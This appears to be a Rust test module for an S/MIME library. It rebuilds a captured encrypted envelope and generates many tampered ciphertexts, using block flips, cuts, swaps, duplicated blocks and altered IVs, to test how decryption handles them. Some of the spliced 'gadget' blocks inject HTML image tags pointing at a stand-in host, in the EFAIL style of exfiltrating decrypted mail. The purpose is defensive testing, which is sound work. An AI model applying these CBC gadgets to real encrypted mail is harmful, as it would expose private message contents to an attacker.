//! A stolen ciphertext, and what can be made of it without its key.

use smime::{
    Policy,
    crypto::{
        ContentCipher,
        asn1::{Tag, Writer},
    },
    io::Source,
    mime::SmimeType,
};

use crate::common::{World, cms_of, mail_around, node, nodes, octets};
use crate::{AUTH_ENVELOPED_DATA, BLOCK, DATA, ENVELOPED_DATA, xor};

/// The parts of an envelope, to be put together otherwise.
#[derive(Clone)]
pub(crate) struct Stolen {
    pub(crate) infos: Vec<u8>,
    pub(crate) cipher: ContentCipher,
    pub(crate) iv: Vec<u8>,
    pub(crate) ciphertext: Vec<u8>,
    pub(crate) tag: Vec<u8>,
}

impl Stolen {
    pub(crate) fn from(mail: &[u8]) -> Self {
        let cms = cms_of(mail);
        let nodes = nodes(&cms);
        let algorithm = &cms[node(&nodes, &[1, 0, 2, 1]).whole];
        let (cipher, iv, tag_length) = ContentCipher::from_identifier(algorithm).unwrap();
        let tag = match tag_length {
            0 => Vec::new(),
            _ => cms[node(&nodes, &[1, 0, 3]).content].to_vec(),
        };
        Self {
            infos: cms[node(&nodes, &[1, 0, 1]).whole].to_vec(),
            cipher,
            iv,
            ciphertext: octets(&cms, &nodes, &[1, 0, 2, 2]),
            tag,
        }
    }

    /// A mail around it as EnvelopedData (RFC 5652 §6.1).
    pub(crate) fn enveloped(&self) -> Vec<u8> {
        mail_around(
            &self.object(ENVELOPED_DATA, 2, &[]),
            SmimeType::EnvelopedData,
        )
    }

    /// A mail around it as AuthEnvelopedData (RFC 5083 §2.1).
    pub(crate) fn auth_enveloped(&self) -> Vec<u8> {
        let mac = Writer::encode(|w| w.octet_string(&self.tag));
        mail_around(
            &self.object(AUTH_ENVELOPED_DATA, 0, &mac),
            SmimeType::AuthEnvelopedData,
        )
    }

    pub(crate) fn object(&self, object_type: &[u8], version: u32, last: &[u8]) -> Vec<u8> {
        Writer::encode(|w| {
            w.sequence(|w| {
                w.raw(object_type);
                w.constructed(Tag::context_constructed(0), |w| {
                    w.sequence(|w| {
                        w.small(version);
                        w.raw(&self.infos);
                        w.sequence(|w| {
                            w.raw(DATA);
                            w.raw(&self.cipher.identifier(&self.iv));
                            w.element(Tag::context(0), &self.ciphertext);
                        });
                        w.raw(last);
                    });
                });
            });
        })
    }

    pub(crate) fn blocks(&self) -> Vec<Vec<u8>> {
        self.ciphertext.chunks(BLOCK).map(<[u8]>::to_vec).collect()
    }

    pub(crate) fn set_blocks(&mut self, blocks: &[Vec<u8>]) {
        self.ciphertext = blocks.concat();
    }

    /// Two blocks that decrypt to noise and to what is wanted, from the one known block.
    pub(crate) fn gadget(&self, plaintext: &[u8], wanted: &[u8]) -> Vec<Vec<u8>> {
        let mut padded = wanted.to_vec();
        padded.resize(BLOCK, b' ');
        vec![
            xor(&xor(&self.iv, plaintext), &padded),
            self.ciphertext[..BLOCK].to_vec(),
        ]
    }

    pub(crate) fn decrypted(&self, world: &World) -> Vec<u8> {
        let cms = cms_of(&self.enveloped());
        let read = smime::cms::read(Source::from_bytes(cms), &smime::io::Limits::default());
        let smime::cms::Object::Enveloped(envelope) = read.unwrap() else {
            panic!("not an envelope");
        };
        let engine = world.receiver(Policy::standard());
        let key = world.bob.private_key();
        let (_, content) = engine
            .decrypt(&envelope, &world.bob.certificate, &key)
            .unwrap();
        content.read_to_vec("content of a test", 1 << 20).unwrap()
    }
}

/// What can be made of a CBC ciphertext whose beginning is known; the ciphertext itself is not
/// among it.
pub(crate) fn attacks(stolen: &Stolen, plaintext: &[u8]) -> Vec<(String, Stolen)> {
    let blocks = stolen.blocks();
    let mut attacks = Vec::new();
    let mut add = |what: String, blocks: &[Vec<u8>]| {
        let mut attack = stolen.clone();
        attack.set_blocks(blocks);
        if attack.ciphertext != stolen.ciphertext {
            attacks.push((what, attack));
        }
    };
    // Long ones at their beginning and at their end alone, which is where structure is.
    let places = (0..blocks.len()).filter(|at| *at < 24 || at + 8 > blocks.len());
    let quotes: [&[u8]; 4] = [
        b"<img src=\"//e.ex",
        b"\r\n\r\n<img src='",
        b"\">",
        b"\r\n--x\r\n\r\n<p>",
    ];
    for at in places.clone() {
        let what = |how: &str| format!("block {at} of {} {how}", blocks.len());
        let mut flipped = blocks.clone();
        flipped[at][at % BLOCK] ^= 0x20;
        add(what("flipped"), &flipped);
        add(what("and all after it cut"), &blocks[..at]);
        add(what("and all after it alone"), &blocks[at..]);
        let mut without = blocks.clone();
        without.remove(at);
        add(what("left out"), &without);
        let mut twice = blocks.clone();
        twice.insert(at, blocks[at].clone());
        add(what("twice"), &twice);
        let mut swapped = blocks.clone();
        swapped.swap(at, (at + 1) % blocks.len());
        add(what("swapped with the next"), &swapped);
        let mut swapped = blocks.clone();
        swapped.swap(at, blocks.len() - 1);
        add(what("swapped with the last"), &swapped);
        for quote in quotes {
            let mut spliced = blocks.clone();
            spliced.splice(at..at, stolen.gadget(plaintext, quote));
            add(what("after a chosen one"), &spliced);
        }
    }
    add(
        "the whole twice".to_owned(),
        &[&blocks[..], &blocks].concat(),
    );
    for quote in quotes {
        let gadget = stolen.gadget(plaintext, quote);
        add(
            "a chosen block at the end".to_owned(),
            &[&blocks[..], &gadget].concat(),
        );
        let end = &blocks[blocks.len() - 2..];
        add(
            "and the end again".to_owned(),
            &[&blocks[..], &gadget, end].concat(),
        );
    }
    for at in 0..BLOCK {
        for mask in [0x01, 0x20, 0xff] {
            let mut attack = stolen.clone();
            attack.iv[at] ^= mask;
            attacks.push((format!("vector changed at {at} by {mask}"), attack));
        }
    }
    let wanted: &[u8] = b"A:\r\n\r\n<img src='/";
    let iv = xor(&xor(&stolen.iv, plaintext), wanted);
    attacks.push((
        "vector chosen".to_owned(),
        Stolen {
            iv,
            ..stolen.clone()
        },
    ));
    attacks
}
